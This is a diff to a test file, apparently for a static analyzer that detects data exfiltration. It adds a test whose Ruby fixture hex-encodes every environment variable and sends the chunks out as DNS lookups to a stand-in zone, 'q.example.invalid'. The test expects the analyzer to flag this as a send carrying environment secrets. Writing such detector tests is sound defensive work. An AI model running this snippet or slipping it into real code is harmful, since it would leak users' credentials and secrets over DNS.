@@ -766,6 +766,13 @@ for ($i = 0; $i -lt $hex.Length; $i += 60) {
       expect(find(es, 'send', (e) => e.channel === 'dns')?.carries).toContain('ssh-keys');
     });
 
+    it('Ruby: a resolver object (Resolv::DNS.new) looking up hex chunks of the environment is a send to the zone', () => {
+      const es = rb(`require 'resolv'\nZONE = 'q.example.invalid'\nblob = ENV.to_h.map { |k, v| "#{k}=#{v}" }.join(";").unpack1('H*')\ndns = Resolv::DNS.new\nblob.scan(/.{1,60}/).each_with_index do |chunk, i|\n  dns.getaddress("#{i}.#{chunk}.#{ZONE}")\nend\n`);
+      const send = find(es, 'send', (e) => e.channel === 'dns');
+      expect(send?.host).toBe('q.example.invalid');
+      expect(send?.carries).toContain('env-secrets');
+    });
+
     it('names built from constants or the host the user passes are not sends', () => {
       const es = [
         ...py(`import socket, sys, subprocess\nh = sys.argv[1]\nsocket.gethostbyname(h)\nsocket.gethostbyname("api.example.com")\nsubprocess.run(["nslookup", h])\n`),
